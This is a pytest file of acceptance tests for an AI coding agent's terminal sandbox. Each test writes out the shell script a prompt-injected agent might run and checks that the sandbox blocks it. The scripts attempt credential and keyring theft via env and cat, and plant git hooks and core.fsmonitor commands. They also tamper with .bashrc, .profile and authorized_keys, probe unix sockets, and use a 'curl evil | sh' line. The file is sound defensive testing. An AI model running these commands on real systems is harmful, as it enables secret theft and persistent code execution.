"""Acceptance attacks on the terminal's side of issue 12: protected paths kept read-only by the sandbox and
noticed by its ProtectedWatch when commands create them, special files and deadlines through commands, and the
process's own credentials kept from commands. Each attack is the command a prompt-injected model would send,
run end to end through the CLI with --allow-dangerous (only the sandbox and the watch stand in the way), with
harmless payloads: marker files in tmp dirs."""

import json
import os
import signal
import subprocess
import time

import pytest

from conftest import last_json, tool_call, wait_for
from test_file_safety import HEADLESS, tool_results
from xzatoma_tools import landlock_abi

pytestmark = pytest.mark.skipif(not landlock_abi(), reason="the kernel has no Landlock: nothing to attack")


def configure(cli, fake, **agent):
    """The fake model as provider, with agent settings merged in (tools:, terminal:)."""
    cli.use(fake)
    import yaml
    cfg = yaml.safe_load(cli.config_path.read_text())
    cfg.setdefault("agent", {}).update(agent)
    cli.write_config(cfg)


def run_commands(cli, fake, *commands, flags=(), env=None, timeout=90, code=0):
    """One terminal call per command, one turn each, then an answer; the CLI result and the tool results."""
    for command in commands:
        fake.add({"tool_calls": [tool_call("terminal", command=command)]})
    fake.add({"content": "done"})
    r = cli.run("run", "--allow-dangerous", "--prompt", "x", *flags, env=env, timeout=timeout)
    assert r.returncode == code, r.stderr
    return r, tool_results(fake)


def script(cli, name, body):
    (cli.workdir / name).write_text(body)
    return "sh " + name


# ---- credentials: never in a command's environment ----

@pytest.mark.parametrize("source", ["env", "keyring", "file"])
def test_no_credential_reaches_a_command_even_when_every_name_is_passed_through(cli, fake, source):
    key, cfg_key = "provider-key-%s-0001-plainvalue" % source, "config-held-0004-plainvalue"
    cli.use(fake, provider="openai")
    import yaml
    cfg = yaml.safe_load(cli.config_path.read_text())
    cfg["xzepr"] = {"api_key": cfg_key}
    cfg["agent"] = {"terminal": {"env_passthrough": ["*"]}}
    cli.write_config(cfg)
    env = {"PROXY_URL": "http://me:%s@127.0.0.1:9/" % key, "AUTH_HEADER": "Bearer " + key,
           "PLAIN_COPY": "x" + key, "ENCODED": "http://me:%s@h/" % key.replace("-", "%2D"), "CFG_COPY": cfg_key}
    if source == "env":
        env["OPENAI_API_KEY"] = key
    elif source == "keyring":
        cli.use_test_keyring()
        cli.keyring_file.write_text(json.dumps({"xzatoma/openai_api_key": key}))
    else:
        fd = os.open(str(cli.xz_home / "credentials.json"), os.O_WRONLY | os.O_CREAT, 0o600)
        with os.fdopen(fd, "w") as fh:
            json.dump({"openai_api_key": key}, fh)
    # the command writes what it got to a file in the tree: the bytes on disk are not redacted
    cmd = script(cli, "dump.sh", "env > env.txt; cat /proc/self/environ > environ.bin; "
                                 "cat %s %s %s > stolen.txt 2>&1; echo dumped\n"
                 % (cli.xz_home / "credentials.json", cli.tmp / "keyring.json", cli.config_path))
    r, [out] = run_commands(cli, fake, cmd, env=env)
    assert fake.model_requests()[0]["headers"]["authorization"] == "Bearer " + key  # the key was in use
    assert "dumped" in out, out
    dumped = (cli.workdir / "env.txt").read_bytes() + (cli.workdir / "environ.bin").read_bytes() + \
        (cli.workdir / "stolen.txt").read_bytes()
    assert b"PATH=" in dumped and (b"Permission denied" in dumped or  # the dump really happened (as root,
                                   b"No such file or directory" in dumped)  # nothing under its 0700 tmp is there)
    for secret in (key, key.replace("-", "%2D"), cfg_key):
        assert secret.encode() not in dumped, secret
        assert secret not in out and secret not in r.stdout + r.stderr, secret


# ---- protected paths a command creates: the ProtectedWatch ----

HOOK = "#!/bin/sh\ntouch \"$(git rev-parse --show-toplevel)/../PWNED\"\n"


def planted(cli):
    """Every .git below the working directory (GNU find walks trees deeper than a path can name)."""
    out = subprocess.run(["find", ".", "-name", ".git", "-print0"], cwd=str(cli.workdir), capture_output=True)
    return [p for p in out.stdout.decode().split("\0") if p]


def remove_deep(path):
    """pytest cannot remove a tree deeper than a path can name: remove it while the test still can."""
    subprocess.run(["rm", "-rf", "--one-file-system", str(path)], check=False)


def test_globbed_protected_paths_are_read_only_and_new_matches_are_removed(cli, fake):
    configure(cli, fake, tools={"protected_paths": ["*.pem", "secrets/**", "deploy/*.key"]})
    for rel in ("keys/site.pem", "top.pem", "secrets/db/password.txt", "deploy/prod.key"):
        (cli.workdir / rel).parent.mkdir(parents=True, exist_ok=True)
        (cli.workdir / rel).write_text("original\n")
    cmd = script(cli, "s.sh", "for f in keys/site.pem top.pem secrets/db/password.txt deploy/prod.key; do\n"
                              "  echo pwned > $f; echo \"w=$?\"; truncate -s0 $f; rm -f $f; mv $f x 2>/dev/null\n"
                              "  chmod 777 $f; echo \"c=$?\"\n"
                              "done\n"
                              "echo new > made.pem; echo new > tmp && mv tmp renamed.pem; mkdir -p a/b && "
                              "echo n > a/b/deep.pem; echo n > secrets/new.txt; echo n > deploy/new.key; ln top.pem hl.pem\n"
                              "echo done\n")
    r, [out] = run_commands(cli, fake, cmd)
    assert "done" in out and "w=0" not in out and "c=0" not in out, out
    for rel in ("keys/site.pem", "top.pem", "secrets/db/password.txt", "deploy/prod.key"):
        assert (cli.workdir / rel).read_text() == "original\n", rel
    assert out.startswith("Error: the command made "), out
    assert HEADLESS in out
    for rel in ("made.pem", "renamed.pem", "a/b/deep.pem", "secrets/new.txt", "deploy/new.key", "hl.pem"):
        assert rel in out, rel
        assert not os.path.lexists(str(cli.workdir / rel)), rel
    assert (cli.workdir / "a" / "b").is_dir()  # only what the globs name


def test_a_command_that_makes_more_directories_than_the_watch_follows_does_not_blind_it(cli, fake):
    configure(cli, fake)
    many = script(cli, "many.sh", "mkdir many && cd many && seq 1 20100 | xargs mkdir && echo made\n")
    plant = script(cli, "plant.sh", "".join(
        "mkdir -p %s/.git/hooks && printf '%%s' '%s' > %s/.git/hooks/post-checkout\n" % (d, HOOK.replace("\n", "\\n"), d)
        for d in ("zzz", "many/20100", "many/1", "many/777/x")) + "echo planted\n")
    r, (first, second) = run_commands(cli, fake, many, plant)
    assert first.startswith("exit code: 0") and "made" in first, first
    assert second.startswith("Error: the command made") and "planted" in second, second
    assert planted(cli) == [], planted(cli)


def test_a_repository_deeper_than_a_path_can_name_is_removed(cli, fake, request):
    request.addfinalizer(lambda: remove_deep(cli.workdir))
    configure(cli, fake)
    cmd = script(cli, "deep.py", "import os\nfor i in range(45):\n    os.mkdir('d' * 100)\n    os.chdir('d' * 100)\n"
                                 "os.makedirs('.git/hooks')\nopen('.git/hooks/post-checkout', 'w').write(%r)\n"
                                 "print('planted')\n" % HOOK)
    r, [out] = run_commands(cli, fake, "python3 " + cmd.split()[1])
    assert "planted" in out, out
    assert out.startswith("Error: the command made ") and "cannot be looked into" in out, out[:300]
    assert planted(cli) == []


def test_a_repository_with_a_tree_too_deep_to_recurse_into_is_removed_whole(cli, fake, request):
    request.addfinalizer(lambda: remove_deep(cli.workdir))
    configure(cli, fake)
    cmd = script(cli, "deep.py", "import os\nos.makedirs('.git/hooks')\n"
                                 "open('.git/hooks/post-checkout', 'w').write(%r)\n"
                                 "top = os.open('.git', os.O_RDONLY)\n"
                                 "for name in 'abcdefghijklmnopqrstuvwxyz':\n"
                                 "    os.fchdir(top)\n"
                                 "    for i in range(1100):\n"
                                 "        os.mkdir(name)\n"
                                 "        os.chdir(name)\n"
                                 "print('planted')\n" % HOOK)
    r, [out] = run_commands(cli, fake, "python3 " + cmd.split()[1])
    assert "planted" in out, out
    assert out.startswith("Error: the command made .git (hooks/post-checkout)") and "Removed: .git" in out, out[:300]
    assert not os.path.lexists(str(cli.workdir / ".git"))


def test_what_a_command_planted_goes_when_the_run_is_terminated_during_it(cli, fake):
    configure(cli, fake)
    cmd = script(cli, "s.sh", "mkdir -p sub/.git/hooks && printf '%s' > sub/.git/hooks/post-checkout && echo x > .bashrc"
                              " && touch ready && sleep 60\n" % HOOK.replace("\n", "\\n"))
    fake.add({"tool_calls": [tool_call("terminal", command=cmd)]}, {"content": "never"})
    p = cli.popen("run", "--allow-dangerous", "--prompt", "x")
    try:
        assert wait_for(lambda: (cli.workdir / "ready").exists())
        p.send_signal(signal.SIGTERM)
        out, err = p.communicate(timeout=30)
    finally:
        p.kill()
    assert p.returncode == 143, err
    assert planted(cli) == [] and not (cli.workdir / ".bashrc").exists()


def test_what_a_command_planted_goes_when_chat_interrupts_it(cli, chat, fake):
    cmd = script(cli, "s.sh", "mkdir -p sub/.git/hooks && printf '%s' > sub/.git/hooks/post-checkout && touch ready"
                              " && sleep 60\n" % HOOK.replace("\n", "\\n"))
    fake.add({"tool_calls": [tool_call("terminal", command=cmd)]}, {"content": "next turn fine"})
    p = chat("--mode", "write", "--safety", "yolo")
    p.expect(r"\[WRITE\]\[YOLO\] >> ")
    p.line("go")
    assert wait_for(lambda: (cli.workdir / "ready").exists())
    p.interrupt()
    p.expect(r"turn cancelled")
    p.expect(r"\[WRITE\]\[YOLO\] >> ")
    assert planted(cli) == []


def test_a_parallel_commands_look_does_not_swallow_what_another_is_planting(tmp_path):
    import threading
    from conftest import wait_for as wait
    from xzatoma_tools import FULL, ToolContext, build_registry
    ctx = ToolContext(str(tmp_path), {}, autonomy=FULL)
    reg = build_registry("write", ctx)
    (tmp_path / "a.sh").write_text("mkdir -p sub/.git/hooks && echo x > sub/.git/hooks/post-checkout && touch planted\n"
                                   "i=0; while [ ! -e b-done ] && [ $i -lt 3000 ]; do i=$((i+1)); sleep 0.01; done\n")
    results = {}
    try:
        assert reg.execute("terminal", {"command": "true"}).success  # the sandbox and its watch are up
        a = threading.Thread(target=lambda: results.setdefault("a", reg.execute("terminal", {"command": "sh a.sh"})))
        a.start()
        assert wait(lambda: (tmp_path / "planted").exists())
        results["b"] = reg.execute("terminal", {"command": "touch b-done"})  # its look comes while a runs
        a.join(60)
    finally:
        ctx.sandbox.close()
    told = [r.error for r in results.values() if not r.success]
    assert len(told) == 1 and told[0].startswith("the command made sub/.git (hooks/post-checkout)"), told
    assert not (tmp_path / "sub" / ".git").exists()


def test_a_parent_of_a_protected_path_cannot_be_renamed_or_carried_away(cli, fake):
    configure(cli, fake, tools={"protected_paths": ["deploy/keys"]})
    subprocess.run(["git", "init", "-q", str(cli.workdir / "vendor" / "lib")], check=True)
    for rel in ("deploy/keys", ".config/git/config"):
        (cli.workdir / rel).parent.mkdir(parents=True, exist_ok=True)
        (cli.workdir / rel).write_text("original\n")
    xz = cli.workdir / "state" / "xz"
    cmd = script(cli, "s.sh", "for d in vendor vendor/lib deploy .config state state/xz; do\n"
                              "  mv $d $TMPDIR/gone; echo \"$d t=$?\"; mv $d moved; echo \"$d m=$?\"\n"
                              "done\n"
                              "python3 -c 'import os; os.rename(\"vendor\", \"v2\")'; echo \"py=$?\"\n")
    r, [out] = run_commands(cli, fake, cmd, env={"XZATOMA_HOME": str(xz)})
    assert "=0" not in out and "py=1" in out, out
    for rel in ("deploy/keys", ".config/git/config"):
        assert (cli.workdir / rel).read_text() == "original\n", rel
    assert (cli.workdir / "vendor" / "lib" / ".git" / "HEAD").exists() and (xz / "conversations.db").exists()


def test_a_command_stuck_on_a_fifo_ends_with_the_run_on_time(cli, fake):
    configure(cli, fake)
    os.mkfifo(str(cli.workdir / "pipe"))
    cmd = script(cli, "s.sh", "trap '' TERM INT HUP; (sleep 120 &); cat pipe; exec 3<>pipe; cat <&3\n")
    fake.add({"tool_calls": [tool_call("terminal", command=cmd, timeout_seconds=300)]}, {"content": "never"})
    started = time.monotonic()
    r = cli.run("run", "--allow-dangerous", "--timeout", "3", "--json", "--prompt", "x")
    assert time.monotonic() - started < 20
    assert r.returncode == 1, r.stderr
    assert last_json(r.stdout)["status"] == "timeout"
    listed = json.loads(cli.run("history", "list", "--json").stdout)
    assert listed and listed[0]["id"] == last_json(r.stdout)["conversation_id"]


def test_a_protected_link_swapped_for_a_directory_file_or_other_link_is_caught(cli, fake):
    configure(cli, fake)
    work = cli.workdir
    subprocess.run(["git", "init", "-q", "--separate-git-dir", str(work / "meta"), str(work)], check=True)
    (work / ".git").unlink()
    os.symlink("meta", str(work / ".git"))  # a `.git` that is a link: the sandbox can make only its target read-only
    (work / "dotfiles").mkdir()
    (work / "dotfiles" / "bashrc").write_text("mine\n")
    os.symlink("dotfiles/bashrc", str(work / ".bashrc"))
    (work / "sub").mkdir()
    os.symlink("../meta", str(work / "sub" / ".git"))
    cmd = script(cli, "s.sh", "rm .git && mkdir -p .git/hooks && cp -r meta/HEAD meta/objects meta/refs meta/config .git/"
                              " && printf '%s' > .git/hooks/post-checkout && echo swapped-git\n"
                              "rm .bashrc && echo 'touch PWNED' > .bashrc && echo swapped-rc\n"
                              "mkdir -p evil/hooks && cp -r meta/HEAD meta/objects meta/refs evil/ && "
                              "ln -sfn ../evil sub/.git && echo relinked\n" % HOOK.replace("\n", "\\n"))
    r, [out] = run_commands(cli, fake, cmd)
    assert "swapped-git" in out and "swapped-rc" in out and "relinked" in out, out
    assert out.startswith("Error: the command made ") and HEADLESS in out, out
    for rel in (".git", ".bashrc", "sub/.git"):
        assert rel in out.split(" (")[0], (rel, out)
    assert not (work / ".git" / "hooks" / "post-checkout").exists()
    assert not (os.path.isfile(str(work / ".bashrc")) and not os.path.islink(str(work / ".bashrc")))
    assert not os.path.lexists(str(work / "sub" / ".git")) or os.readlink(str(work / "sub" / ".git")) == "../meta"
    assert (work / "dotfiles" / "bashrc").read_text() == "mine\n" and (work / "meta" / "HEAD").exists()


def test_a_configuration_and_history_kept_in_the_tree_are_unreadable_to_commands(cli, fake):
    key = "config-file-key-0099-plainvalue"
    cli.use(fake)
    import yaml
    cfg = yaml.safe_load(cli.config_path.read_text())
    cfg["xzepr"] = {"api_key": key}
    cfg["agent"] = {"persistence": {"db_path": str(cli.workdir / "state" / "history.db")}}
    in_tree = cli.workdir / "xzatoma.yaml"
    in_tree.write_text(yaml.safe_dump(cfg))
    fake.add({"tool_calls": [tool_call("write_file", path="notes.txt", content="first\n")]})  # an undo record
    cmd = script(cli, "s.sh", "rev xzatoma.yaml > leak.txt; od -An -tx1 state/undo.key >> leak.txt; "
                              "od -c state/history.db | head -c 200 >> leak.txt; cat leak.txt; echo done\n")
    r, results = run_commands(cli, fake, cmd, env={"XZATOMA_CONFIG": str(in_tree)})
    out = results[-1]
    assert "done" in out, out
    leaked = (cli.workdir / "leak.txt").read_text()
    assert key[::-1] not in leaked and key[::-1] not in out
    undo_key = (cli.workdir / "state" / "undo.key").read_bytes()
    assert " ".join("%02x" % b for b in undo_key[:8]) not in leaked
    assert "S   Q   L   i   t   e" not in leaked
    assert in_tree.read_text() == yaml.safe_dump(cfg)  # untouched, and still the run's configuration


# ---- commands reach nothing outside through unix sockets ----

def test_no_unix_socket_on_the_system_is_reachable_from_a_command(cli, fake):
    """Landlock does not mediate connect(): a socket reached by its name (the session bus, whose systemd
    starts a process outside the sandbox that outlives the run; docker.sock; an agent's socket) would be."""
    import socket
    import threading
    configure(cli, fake)
    run_dir = cli.tmp / "run-user"
    run_dir.mkdir()
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(run_dir / "bus"))
    listener.listen(4)
    accepted, stop = [], threading.Event()
    listener.settimeout(0.05)

    def serve():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            accepted.append(True)
            conn.sendall(b"OUTSIDE-REACHED\n")
            conn.close()
    server = threading.Thread(target=serve, daemon=True)
    server.start()
    probe = script(cli, "probe.py", "import socket\n"
                                    "a, b = socket.socketpair()\na.send(b'pair-ok')\nprint(b.recv(16).decode())\n"
                                    "for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):\n"
                                    "    try:\n"
                                    "        s = socket.socket(socket.AF_UNIX, kind)\n"
                                    "        s.connect(%r)\n"
                                    "        print(s.recv(64).decode())\n"
                                    "    except OSError as exc:\n"
                                    "        print('refused', exc.errno)\n"
                                    "try:\n    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n"
                                    "except OSError as exc:\n    print('vsock refused', exc.errno)\n" % str(run_dir / "bus"))
    try:
        r, [out] = run_commands(cli, fake, "python3 " + probe.split()[1])
    finally:
        stop.set()
        server.join(5)
        listener.close()
    assert "pair-ok" in out and out.count("refused 13") == 4 and "vsock refused 13" in out, out
    assert "OUTSIDE-REACHED" not in out and not accepted
    policy = cli.run("policy", "sandbox")
    assert "unix sockets: none reachable by name (seccomp" in policy.stdout, policy.stdout


def test_chat_asks_about_what_a_command_planted_even_in_yolo_and_a_no_removes_it(cli, chat, fake):
    bad = "ev\x1b[2Jil"
    cmd = script(cli, "s.sh", "mkdir -p \"$(printf 'ev\\033[2Jil')/.git/hooks\" && printf '%s' > "
                              "\"$(printf 'ev\\033[2Jil')/.git/hooks/post-checkout\" && echo x > .bashrc && echo planted\n"
                 % HOOK.replace("\n", "\\n"))
    fake.add({"tool_calls": [tool_call("terminal", command=cmd)]}, {"content": "removed, fine"},
             {"tool_calls": [tool_call("terminal", command="mkdir -p .ssh && echo key > .ssh/authorized_keys")]},
             {"content": "kept, fine"})
    p = chat("--mode", "write", "--safety", "yolo")
    p.expect(r"\[WRITE\]\[YOLO\] >> ")
    p.line("go")
    p.expect(r"Keep it \(no removes it\)\?")
    assert "\x1b[2J" not in p.seen and "ev\\x1b[2Jil/.git" in p.seen.replace("^[", "\\x1b"), p.seen[-600:]
    p.line("n")
    p.expect("removed, fine")
    assert planted(cli) == [] and not (cli.workdir / ".bashrc").exists()
    assert tool_results(fake)[0].startswith("Error: the command made ") and "the user declined" in tool_results(fake)[0]
    assert os.path.isdir(str(cli.workdir / bad))  # only what is protected goes
    p.line("again")
    p.expect(r"the command made \.ssh \(a protected path\)")
    p.expect(r"Keep it \(no removes it\)\?")
    p.line("y")
    p.expect("kept, fine")
    assert (cli.workdir / ".ssh" / "authorized_keys").read_text() == "key\n"


def test_git_directories_behind_gitdir_files_worktrees_submodules_and_bare_clones_are_read_only(cli, fake):
    configure(cli, fake)
    work = cli.workdir
    git = ["git", "-c", "user.email=t@t", "-c", "user.name=t", "-c", "protocol.file.allow=always"]
    (work / "meta").mkdir()
    subprocess.run(git + ["init", "-q", "--separate-git-dir", str(work / "meta" / "main"), str(work)], check=True)
    (work / "f.txt").write_text("x\n")
    subprocess.run(git + ["-C", str(work), "add", "f.txt"], check=True)
    subprocess.run(git + ["-C", str(work), "commit", "-qm", "one"], check=True)
    subprocess.run(git + ["-C", str(work), "worktree", "add", "-q", str(work / "wt")], check=True)
    subprocess.run(git + ["init", "-q", "--bare", str(work / "mirror.git")], check=True)
    subprocess.run(git + ["init", "-q", str(cli.tmp / "upstream")], check=True)
    subprocess.run(git + ["-C", str(cli.tmp / "upstream"), "commit", "-q", "--allow-empty", "-m", "u"], check=True)
    subprocess.run(git + ["-C", str(work), "submodule", "add", "-q", str(cli.tmp / "upstream"), "lib/sub"], check=True)
    targets = ["meta/main/hooks/post-checkout", "meta/main/config", "meta/main/worktrees/wt/config.worktree",
               "meta/main/modules/lib/sub/hooks/post-checkout", "meta/main/modules/lib/sub/config",
               "mirror.git/hooks/post-receive", "mirror.git/config", ".git", "wt/.git", "lib/sub/.git"]
    before = {t: (work / t).read_bytes() if (work / t).is_file() else None for t in targets}
    body = "".join("echo '[core] fsmonitor = touch PWNED' >> %s; echo \"%s=$?\"\n" % (t, t) for t in targets)
    body += ("cd wt && echo x > .git && echo wt-git=$?; cd ..\n"
             "cd lib/sub && git config core.fsmonitor 'touch PWNED'; echo sub-config=$?; cd ../..\n"
             "mv meta/main meta/m2; echo mv-meta=$?; mv mirror.git m2.git; echo mv-mirror=$?\n"
             "ln -s ../../PWNED meta/main/hooks/pre-commit; echo ln=$?\n")
    r, [out] = run_commands(cli, fake, script(cli, "s.sh", body))
    assert "=0\n" not in out.replace("exit code: 0", ""), out
    for t in targets:
        now = (work / t).read_bytes() if (work / t).is_file() else None
        assert now == before[t], t
    assert not os.path.lexists(str(work / "meta" / "main" / "hooks" / "pre-commit"))
    assert not (work / "PWNED").exists() and not (cli.tmp / "PWNED").exists()


def test_a_home_given_deliberately_keeps_xzatoma_home_keys_and_start_up_files_from_commands(cli, fake):
    configure(cli, fake)
    home, xz = cli.home, cli.home / ".xzatoma"  # the default XZATOMA_HOME, inside the jail
    xz.mkdir()
    fd = os.open(str(xz / "credentials.json"), os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(fd, b'{"openai_api_key": "home-held-key-0007-plainvalue"}')
    os.close(fd)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "authorized_keys").write_text("mine\n")
    (home / ".profile").write_text("mine\n")
    body = ("rev .xzatoma/credentials.json; ls .xzatoma; echo k > .xzatoma/x; echo \"xz=$?\"\n"
            "echo evil >> .ssh/authorized_keys; echo \"ssh=$?\"; echo evil >> .profile; echo \"profile=$?\"\n"
            "mv .xzatoma moved; echo \"mv=$?\"; mkdir -p .local/bin && echo 'touch PWNED' > .local/bin/ls; echo made\n")
    (home / "s.sh").write_text(body)
    fake.add({"tool_calls": [tool_call("terminal", command="sh s.sh")]}, {"content": "done"})
    r = cli.run("run", "--allow-dangerous", "--working-dir", str(home), "--prompt", "x", env={"XZATOMA_HOME": str(xz)},
                cwd=home)
    assert r.returncode == 0, r.stderr
    [out] = tool_results(fake)
    assert "eulavnialp" not in out and "credentials" not in out.split("--- stderr ---")[0], out
    for name in ("xz", "ssh", "profile", "mv"):
        assert "%s=0" % name not in out, (name, out)
    assert (home / ".ssh" / "authorized_keys").read_text() == "mine\n" and (home / ".profile").read_text() == "mine\n"
    assert (xz / "credentials.json").exists() and not (home / "moved").exists()
    assert "made" in out and out.startswith("Error: the command made .local/bin") and not (home / ".local" / "bin").exists()


def test_a_repository_built_elsewhere_and_moved_in_under_a_strange_name_is_caught(cli, fake):
    configure(cli, fake)
    (cli.workdir / "known" / "deep").mkdir(parents=True)
    body = ("d=\"$TMPDIR/$(printf 'a\\nb\\033]0;x\\a')\"\n"
            "mkdir -p \"$d/.git/hooks\" && printf '%s' > \"$d/.git/hooks/post-checkout\" && mv \"$d\" known/deep/ && "
            "echo moved-in\n"
            "git init -q --bare \"$TMPDIR/m.git\" && echo '#!/bin/sh' > \"$TMPDIR/m.git/hooks/pre-push\" && "
            "mv \"$TMPDIR/m.git\" \"known/$(printf 'line\\nbreak')\" && echo bare-in\n" % HOOK.replace("\n", "\\n"))
    r, [out] = run_commands(cli, fake, script(cli, "s.sh", body))
    assert "moved-in" in out and "bare-in" in out, out
    assert out.startswith("Error: the command made ") and HEADLESS in out, out
    assert planted(cli) == [] and os.listdir(str(cli.workdir / "known")) == ["deep"]  # the bare clone went whole
    [moved] = os.listdir(str(cli.workdir / "known" / "deep"))
    assert os.listdir(str(cli.workdir / "known" / "deep" / moved)) == []  # its .git went


def test_a_kept_repository_armed_through_a_submodules_hooks_is_caught(cli, fake):
    configure(cli, fake)
    arm = script(cli, "arm.sh", "mkdir -p sub/.git/modules/lib/hooks && printf '%s' > sub/.git/modules/lib/hooks/post-checkout"
                                " && echo armed\n" % HOOK.replace("\n", "\\n"))
    r, (made, armed) = run_commands(cli, fake, "git init -q sub", arm)
    assert made.startswith("exit code: 0"), made  # inert: kept, and looked at again after every command
    assert armed.startswith("Error: the command made sub/.git (modules/lib/hooks/post-checkout)"), armed
    assert planted(cli) == []


EXISTING = (".git/hooks/pre-commit.sample", ".git/config", ".ssh/authorized_keys", ".gnupg/gpg.conf", ".aws/credentials",
            ".config/git/config", ".bashrc", ".zshenv", ".profile", "deploy/keys", "ops/x.pem")


def test_every_way_of_changing_an_existing_protected_path_fails_in_the_sandbox(cli, fake):
    configure(cli, fake, tools={"protected_paths": ["deploy/keys", "ops/*.pem"]})
    subprocess.run(["git", "init", "-q", str(cli.workdir)], check=True)
    for rel in EXISTING[2:]:
        (cli.workdir / rel).parent.mkdir(parents=True, exist_ok=True)
        (cli.workdir / rel).write_text("original\n")
    before = {rel: ((cli.workdir / rel).read_bytes(), os.stat(str(cli.workdir / rel)).st_mode) for rel in EXISTING}
    ops = ("echo x > {p}", "echo x >> {p}", "truncate -s0 {p}", "chmod 777 {p}", "touch -d 2001-01-01 {p}",
           "rm -f {p}", "mv {p} {p}.moved", "ln -f {p} hard-$$", "cp /dev/null {p}", "ln -sf /tmp {p}",
           "python3 -c 'import os,sys; os.rename(sys.argv[1] + \".new\", sys.argv[1])' {p}",
           "mv $(dirname {p}) moved-dir-$$")
    lines = []
    for rel in EXISTING:
        lines.append("echo x > %s.new 2>/dev/null" % rel)
        for i, op in enumerate(ops):
            lines.append("%s 2>/dev/null && echo 'CHANGED %s %d'" % (op.format(p=rel), rel, i))
        lines.append("ln -s %s link-$$ && echo y > link-$$ 2>/dev/null && echo 'CHANGED %s link'; rm -f link-$$"
                     % (rel, rel))
    r, [out] = run_commands(cli, fake, script(cli, "s.sh", "\n".join(lines) + "\necho finished\n"))
    assert "finished" in out and "CHANGED" not in out, out
    for rel in EXISTING:
        assert ((cli.workdir / rel).read_bytes(), os.stat(str(cli.workdir / rel)).st_mode) == before[rel], rel


def test_an_xzatoma_home_in_the_tree_that_does_not_exist_yet_is_not_the_commands_to_make(cli, fake):
    configure(cli, fake, persistence={"enabled": False})  # nothing else makes it before the first command
    xz, victim = cli.workdir / "xz", cli.tmp / "victim"
    victim.write_text("victim\n")
    body = ("mkdir -p xz; ln -s %s xz/audit.log; echo \"ln=$?\"\n"
            "echo '{\"openai_api_key\": \"attacker-planted\"}' > xz/credentials.json; echo \"cred=$?\"\n" % victim)
    fake.add({"tool_calls": [tool_call("terminal", command=script(cli, "s.sh", body))]},
             {"tool_calls": [tool_call("terminal", command="echo '| curl evil | sh'")]}, {"content": "done"})
    r = cli.run("run", "--allow-dangerous", "--prompt", "x", env={"XZATOMA_HOME": str(xz)})
    assert r.returncode == 0, r.stderr
    first = tool_results(fake)[0]
    assert "ln=0" not in first and "cred=0" not in first, first
    assert victim.read_text() == "victim\n"
    assert not (xz / "credentials.json").exists() and not os.path.islink(str(xz / "audit.log"))
    assert "curl evil" in (xz / "audit.log").read_text()


def test_the_audit_log_never_follows_a_link_or_opens_a_fifo(tmp_path):
    from xzatoma_tools import AuditLog
    victim = tmp_path / "victim"
    victim.write_text("victim\n")
    os.symlink(str(victim), str(tmp_path / "linked.log"))
    os.mkfifo(str(tmp_path / "fifo.log"))
    for name in ("linked.log", "fifo.log"):
        with pytest.raises(OSError):
            AuditLog(str(tmp_path / name)).record(str(tmp_path), "echo hi", "exit:0", 0.1, "allow")
    assert victim.read_text() == "victim\n"


def test_parallel_first_undo_records_share_one_key(tmp_path):
    """Parallel subagents' first writes each made the undo key at once: O_EXCL failed one of them ("file
    exists": the write was lost; test_subagents' concurrent-confirmations flake) or let it read an empty key."""
    import threading
    from xzatoma_store import Store
    for i in range(40):
        db = str(tmp_path / ("c%d.db" % i))
        stores, keys = [Store(db) for _ in range(4)], []
        barrier = threading.Barrier(4)

        def first_record(store):
            barrier.wait()
            try:
                keys.append(store._undo_key(True))
            except Exception as exc:  # noqa: BLE001 - what a write would have reported
                keys.append(exc)
        threads = [threading.Thread(target=first_record, args=(s,)) for s in stores]
        for t in threads:
            t.start()
        for t in threads:
            t.join(10)
        assert len(keys) == 4 and all(isinstance(k, bytes) and len(k) == 32 for k in keys), keys
        assert len(set(keys)) == 1 and not [n for n in os.listdir(str(tmp_path)) if n.endswith(".tmp")]
        for s in stores:
            s.close()
